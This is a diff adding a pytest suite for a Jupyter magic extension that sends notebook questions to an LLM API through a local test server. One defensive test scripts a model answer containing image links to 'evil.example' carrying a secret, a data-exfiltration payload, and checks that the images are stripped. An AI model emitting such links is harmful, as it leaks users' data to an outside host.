@@ -1,0 +1,435 @@
+"""The magics in a shell of their own, over real HTTP."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+from IPython.core.displaypub import CapturingDisplayPublisher
+from IPython.core.interactiveshell import InteractiveShell
+from servers import misbehaving as wire
+from servers.misbehaving import HOLD, MisbehavingServer
+
+import rustbot_jupyter as rb
+from rustbot_jupyter.notebook import magic_requests
+from rustbot_jupyter.notebook.arguments import parse_line
+from rustbot_jupyter.notebook.dry_run import DryRun
+from rustbot_jupyter.notebook.failures import Failures
+from rustbot_jupyter.notebook.magic_requests import turn_request
+from rustbot_jupyter.notebook.widget import ChatWidget
+
+KEY = "sk-or-v1-" + "planted" * 6
+USAGE = {"prompt_tokens": 12, "completion_tokens": 3, "total_tokens": 15, "cost": 0.00025}
+
+
+class Notebook:
+    """A shell with the magics loaded, and what its cells showed."""
+
+    def __init__(self, shell: InteractiveShell, bot: rb.Rustbot) -> None:
+        self.shell = shell
+        self.bot = bot
+        self.names = shell.user_ns
+        self.next_inputs: list[str] = []
+        shell.set_next_input = lambda text, replace=False: self.next_inputs.append(text)  # type: ignore[method-assign]
+
+    def run(self, cell: str) -> Any:
+        """The result of a cell that works."""
+        result = self.shell.run_cell(cell, store_history=True)
+        assert result.success, result
+        return result.result
+
+    def fail(self, cell: str) -> BaseException:
+        """What a cell raises."""
+        result = self.shell.run_cell(cell, store_history=True)
+        error = result.error_in_exec or result.error_before_exec
+        assert error is not None
+        return error
+
+    @property
+    def outputs(self) -> list[dict[str, Any]]:
+        return self.shell.display_pub.outputs
+
+    @property
+    def shown(self) -> dict[str, str]:
+        """What the last display shows in the end."""
+        return self.outputs[-1]["data"]
+
+
+@pytest.fixture
+def notebook(server: MisbehavingServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Notebook]:
+    for name in ("OPENROUTER_API_KEY", "RUSTBOT_API_KEY"):
+        monkeypatch.delenv(name, raising=False)
+    for name in ("RUSTBOT_CONFIG_DIR", "RUSTBOT_DATA_DIR", "IPYTHONDIR"):
+        monkeypatch.setenv(name, str(tmp_path / name))
+    monkeypatch.chdir(tmp_path)
+    bot = rb.Rustbot(model="test/model", base_url=server.base_url, api_key=KEY)
+    bot.settings.retries = 0
+    rb.set_bot(bot)
+    InteractiveShell.clear_instance()
+    shell = InteractiveShell.instance()
+    shell.display_pub = CapturingDisplayPublisher()
+    # What tells a shell in a kernel from one in a terminal.
+    shell.kernel = object()
+    shell.extension_manager.load_extension("rustbot_jupyter")
+    yield Notebook(shell, bot)
+    shell.extension_manager.unload_extension("rustbot_jupyter")
+    InteractiveShell.clear_instance()
+    bot.close()
+
+
+def sent(server: MisbehavingServer) -> dict[str, Any]:
+    """The body of the last chat request."""
+    return server.chats[-1].json
+
+
+def question(server: MisbehavingServer) -> str:
+    return sent(server)["messages"][-1]["content"]
+
+
+def test_a_cell_shows_the_answer_in_one_display_updated_in_place(notebook, server):
+    server.script(wire.answer("Once ", "upon ", "a time", usage=USAGE, pause_s=0.12))
+
+    notebook.run("%%rustbot\nTell me")
+
+    ids = {output["transient"]["display_id"] for output in notebook.outputs}
+    assert len(ids) == 1
+    assert [output["update"] for output in notebook.outputs] == [False] + [True] * (len(notebook.outputs) - 1)
+    assert notebook.shown["text/plain"] == "Once upon a time"
+    assert notebook.shown["text/markdown"].startswith("Once upon a time\n\n<small>")
+    assert "15 tokens · \\$0.00025" in notebook.shown["text/markdown"]
+    assert any(output["data"]["text/plain"] in ("Once ", "Once upon ") for output in notebook.outputs)
+
+
+def test_a_flood_of_tokens_makes_at_most_ten_updates_a_second(notebook, server):
+    server.script(wire.flood(3_000, rate=3_000))
+
+    start = time.monotonic()
+    notebook.run("%%rustbot\nTell me")
+
+    assert len(notebook.outputs) <= 10 * (time.monotonic() - start) + 5
+    assert notebook.shown["text/plain"] == "x" * 3_000
+
+
+def test_the_reply_is_the_result_and_is_not_shown_twice(notebook, server):
+    server.script(wire.answer("Hello"))
+
+    reply = notebook.run("%rustbot hi there")
+    notebook.run("answer = %rustbot what is this?")
+
+    assert isinstance(reply, rb.Reply)
+    assert reply.text == "Hello"
+    assert notebook.names["answer"].text == "Hello"
+    assert question(server) == "what is this?"
+    assert reply._ipython_display_() is None
+    assert sum("Hello" in str(output["data"]) for output in notebook.outputs if not output["update"]) == 1
+
+
+def test_variables_are_put_in_and_everything_else_stays(notebook, server):
+    notebook.names["df"] = pd.DataFrame({"price": [1, 2]})
+    notebook.run("x = 41")
+
+    notebook.run('%%rustbot\n{x} and $`x + 1`, {"a": 1}, {}, {nope}, \\frac{1}{2}, {In[1]}\n{df}')
+
+    text = question(server)
+    assert text.startswith('41 and 42, {"a": 1}, {}, {nope}, \\frac{1}{2}, x = 41\ndf: pandas DataFrame, 2 rows')
+    assert "- price: int64, min 1, mean 1.5, max 2" in text
+
+
+def test_a_line_is_not_expanded_by_ipython(notebook, server):
+    notebook.names["x"] = 5
+
+    notebook.run("%rustbot $x {x} {{x}} {x+1} $HOME")
+
+    assert question(server) == "$x 5 {x} {x+1} $HOME"
+
+
+def test_an_expression_that_fails_is_not_sent(notebook, server):
+    error = notebook.fail("%%rustbot\nWhat is $`1/0`?")
+
+    assert str(error).startswith("`1/0` could not be put into the question: ZeroDivisionError")
+    assert server.chats == []
+
+
+def test_flags_reach_the_request(notebook, server):
+    notebook.names["a"] = [1, 2]
+
+    line = "other/model -s 'Be short.' -o temperature 0.5 -o top_k 7 -m '{\"max_tokens\": 99}' --vars a --timeout 60"
+
+    notebook.run(f"%%rustbot {line}\nWhy?")
+
+    body = sent(server)
+    assert body["model"] == "other/model"
+    assert body["temperature"] == 0.5
+    assert body["top_k"] == 7
+    assert body["max_tokens"] == 99
+    assert body["messages"][0]["content"].startswith("Be short.")
+    assert question(server) == "Why?\n\nVariables:\n\na: list, 2 items\n[1, 2]"
+
+
+def test_schema_only_sends_no_value(notebook, server):
+    notebook.names["df"] = pd.DataFrame({"who": ["zebra"]})
+    notebook.run("x = 'zebra'")
+
+    notebook.run("%%rustbot --schema-only --vars df\n{df} {x} {In[1]} $`x * 2`")
+
+    assert "zebra" not in json.dumps(sent(server))
+    assert "- who: str" in question(server)
+
+
+def test_the_setting_send_values_does_the_same(notebook, server):
+    notebook.bot.settings.set("send_values", False)
+    notebook.names["x"] = "zebra"
+
+    notebook.run("%rustbot what is {x}?")
+
+    assert question(server) == "what is x: str, 5 characters?"
+
+
+def test_cells_share_the_conversation_unless_told_otherwise(notebook, server):
+    server.script(wire.answer("one"))
+    notebook.run("%rustbot first question")
+    notebook.run("%rustbot second question")
+    assert len(sent(server)["messages"]) == 4
+
+    notebook.run("%rustbot --no-history third question")
+    assert len(sent(server)["messages"]) == 2
+    assert len(notebook.bot.conversation.messages) == 4
+
+    notebook.run("%rustbot --new fourth question")
+    assert len(sent(server)["messages"]) == 2
+    assert len(notebook.bot.conversation.messages) == 2
+
+
+def test_code_goes_into_the_next_cell(notebook, server):
+    server.script(wire.answer("Sure:\n```python\nx = 1\n```\nDone."))
+
+    notebook.run("%%rustbot -f code\nSet x")
+
+    assert notebook.next_inputs == ["x = 1"]
+    assert "The code is in the next cell" in notebook.shown["text/markdown"]
+
+
+def test_an_answer_without_code_says_so(notebook, server):
+    server.script(wire.answer("I cannot."))
+
+    notebook.run("%%rustbot -f code\nSet x")
+
+    assert notebook.next_inputs == []
+    assert notebook.shown["text/markdown"].startswith("I cannot.\n\n*The answer holds no code.*")
+
+
+def test_json_is_shown_as_json_and_asked_for_with_a_schema(notebook, server):
+    server.script(wire.answer('```json\n{"name": "Ann", "age": 3}\n```'))
+
+    notebook.run("%%rustbot --schema 'name, age int'\nWho?")
+
+    assert notebook.shown["application/json"] == {"name": "Ann", "age": 3}
+    wanted = sent(server)["response_format"]["json_schema"]
+    assert wanted["strict"] is True
+    assert wanted["schema"]["required"] == ["name", "age"]
+
+
+def test_an_answer_that_is_no_json_is_shown_and_one_clear_error(notebook, server):
+    server.script(wire.answer("I would rather not."))
+
+    error = notebook.fail("%%rustbot -f json --out kept\nWho?")
+
+    assert str(error).startswith("The answer is not JSON: it is plain text.")
+    assert error.reply.text == "I would rather not."
+    assert notebook.names["kept"].text == "I would rather not."
+    assert notebook.shown["text/plain"] == "I would rather not."
+
+
+@pytest.mark.parametrize(
+    ("format", "kind", "start"),
+    [("text", "text/plain", "<b>x^2"), ("math", "text/latex", "$$\n<b>"), ("html", "text/html", '<iframe sandbox=""')],
+)
+def test_other_formats_have_their_mime_type(notebook, server, format, kind, start):
+    server.script(wire.answer("<b>x^2</b>"))
+
+    notebook.run(f"%%rustbot -f {format}\nShow")
+
+    assert notebook.shown[kind].startswith(start)
+
+
+def test_images_in_an_answer_do_not_load_before_a_click(notebook, server):
+    server.script(wire.answer("![x](https://evil.example/?secret) <img src=https://evil.example>"))
+
+    notebook.run("%rustbot show me")
+
+    for output in notebook.outputs:
+        assert "![" not in output["data"]["text/markdown"]
+        assert "<img" not in output["data"]["text/markdown"]
+
+
+def test_a_failure_raises_one_line(notebook, server, capsys):
+    server.script(wire.error(401, "No auth"))
+
+    error = notebook.fail("%rustbot hello there")
+
+    assert isinstance(error, rb.AuthenticationFailed)
+    assert "following.py" not in capsys.readouterr().out
+    assert KEY not in str(error)
+
+
+def test_a_failure_may_be_shown_only(notebook, server):
+    server.script(wire.error(402, "Pay"))
+
+    assert notebook.run("%rustbot --on-error show hello there") is None
+
+    assert notebook.shown["text/markdown"].startswith("**")
+
+
+def test_a_broken_stream_keeps_what_had_come(notebook, server):
+    server.script([*wire.opening("Once "), wire.CLOSE])
+
+    reply = notebook.run("%rustbot tell me")
+
+    assert reply.status is rb.MessageStatus.INTERRUPTED
+    assert notebook.shown["text/markdown"].startswith("Once \n\n*Interrupted.")
+
+
+def test_a_dry_run_shows_what_would_be_sent_and_sends_nothing(notebook, server):
+    notebook.names["x"] = 5
+
+    preview = notebook.run("%%rustbot --dry-run -s 'Be <b>short</b>.'\nWhat is {x}?")
+
+    assert isinstance(preview, DryRun)
+    assert server.chats == []
+    assert notebook.bot.conversation.messages == ()
+    assert "What is 5?" in str(preview)
+    assert "test/model" in str(preview)
+    assert "&lt;b&gt;short" in preview._repr_html_()
+
+
+def test_a_dry_run_tells_the_messages_that_are_then_sent(notebook, server):
+    notebook.run("%rustbot first question")
+
+    preview = notebook.run("%rustbot --dry-run second question")
+    notebook.run("%rustbot second question")
+
+    said = [message.text for message in preview.messages]
+    assert said == [message["content"] for message in sent(server)["messages"]]
+
+
+def test_the_background_answers_while_the_notebook_goes_on(notebook, server):
+    server.script([*wire.opening("Once "), HOLD, *wire.closing()])
+
+    assert notebook.run("%%rustbot --bg --out later\nTell me") is None
+    server.wait_until_held()
+    notebook.run("x = 1")
+    server.release()
+
+    deadline = time.monotonic() + 10
+    while "later" not in notebook.names or "<small>" not in notebook.shown.get("text/markdown", ""):
+        assert time.monotonic() < deadline, "no answer in the background"
+        time.sleep(0.01)
+    assert notebook.names["later"].text == "Once "
+
+
+def test_fix_sends_the_failing_cell_its_traceback_and_its_variables(notebook, server):
+    notebook.names["prices"] = {"apple": 1}
+    notebook.fail("prices['peach']")
+
+    notebook.run("%%rustbot fix\nUse 0 when it is missing.")
+
+    text = question(server)
+    assert "```python\nprices['peach']\n```" in text
+    assert "KeyError: 'peach'" in text
+    assert 'File "In[1]", line 1' in text
+    assert "{'apple': 1}" in text
+    assert "Use 0 when it is missing." in text
+
+
+def test_explain_takes_a_number_and_cells_that_did_not_fail(notebook, server):
+    notebook.run("y = sum(range(10))")
+    notebook.fail("1/0")
+    notebook.fail("undefined")
+
+    notebook.run("%rustbot explain 2")
+    assert "ZeroDivisionError" in question(server)
+
+    notebook.run("%rustbot explain 1")
+    assert question(server).startswith("Explain what the notebook cell In[1] does.")
+    assert "y: int = 45" in question(server)
+
+    assert str(notebook.fail("%rustbot fix 1")).startswith("Cell In[1] has not failed")
+
+
+def test_err_is_there_for_questions(notebook, server):
+    notebook.fail("1/0")
+
+    notebook.run("%rustbot what does {Err[1]} mean")
+
+    assert "ZeroDivisionError: division by zero" in question(server)
+
+
+def test_eval_makes_the_question_from_code(notebook, server):
+    notebook.names["x"] = 5
+
+    notebook.run("%%rustbot --eval\ny = x + 1\nf'What is {y} in {{braces}}?'")
+
+    assert question(server) == "What is 6 in {braces}?"
+    assert "gives no text" in str(notebook.fail("%%rustbot --eval\ny = 1"))
+    assert "ZeroDivisionError" in str(notebook.fail("%%rustbot --eval\n1/0"))
+
+
+def test_limits_reach_the_engine(notebook):
+    call = parse_line("--max-cost 0.01 --timeout 5 tell me")
+
+    request = turn_request(call, magic_requests.Notebook(namespace={}, failures=Failures()), schema_only=False)
+
+    assert (request.max_cost_usd, request.timeout_s, request.source) == (0.01, 5.0, "magic")
+
+
+def test_commands_show_what_they_say(notebook, server, tmp_path):
+    server.script(wire.answer("Hello", usage=USAGE))
+    notebook.run("%rustbot hi there")
+
+    assert "rustbot" in notebook.run("%rustbot version").text.lower()
+    assert "%rustbot fix" in notebook.run("%rustbot help").text
+    assert list(notebook.run("%rustbot usage")["input_tokens"]) == [12]
+    assert "\\$0.00025" in notebook.run("%rustbot cost").text
+    assert "test/model" in notebook.run("%rustbot status").text
+    assert notebook.run("%rustbot stop").text == "Nothing is running."
+    assert "chat.md" in notebook.run("%rustbot export chat.md").text
+    assert "## User\n\nhi there\n\n## Assistant\n\nHello" in (tmp_path / "chat.md").read_text()
+    assert "is there already" in str(notebook.fail("%rustbot export chat.md"))
+    notebook.run("%rustbot reset")
+    assert notebook.bot.conversation.messages == ()
+
+
+def test_the_chat_is_the_result_of_the_bare_magic(notebook):
+    assert isinstance(notebook.run("%rustbot"), ChatWidget)
+
+
+def test_an_alias_stands_for_its_model(notebook, server):
+    notebook.run("%rustbot alias tiny vendor/tiny-1")
+
+    notebook.run("%%rustbot tiny\nWhy?")
+
+    assert sent(server)["model"] == "vendor/tiny-1"
+    assert "`tiny`" in notebook.run("%rustbot alias").text
+    notebook.run("%rustbot dealias tiny")
+    assert notebook.run("%rustbot alias").text == "There are no aliases yet."
+    assert "is a command" in str(notebook.fail("%rustbot alias fix vendor/tiny-1"))
+
+
+def test_loading_twice_and_unloading_leave_the_shell_clean(notebook):
+    shell = notebook.shell
+
+    notebook.run("%load_ext rustbot_jupyter")
+    notebook.run("%reload_ext rustbot_jupyter")
+
+    assert [one.__name__ for one in shell.input_transformer_manager.token_transformers].count("QuestionLine") == 1
+    hooks = [hook.__qualname__ for hook in shell.events.callbacks["post_run_cell"]]
+    assert hooks.count("RustbotMagics.note_failure") == 1
+    notebook.run("%unload_ext rustbot_jupyter")
+    assert "rustbot" not in shell.magics_manager.magics["cell"]
+    assert "QuestionLine" not in [one.__name__ for one in shell.input_transformer_manager.token_transformers]
+    notebook.run("%load_ext rustbot_jupyter")
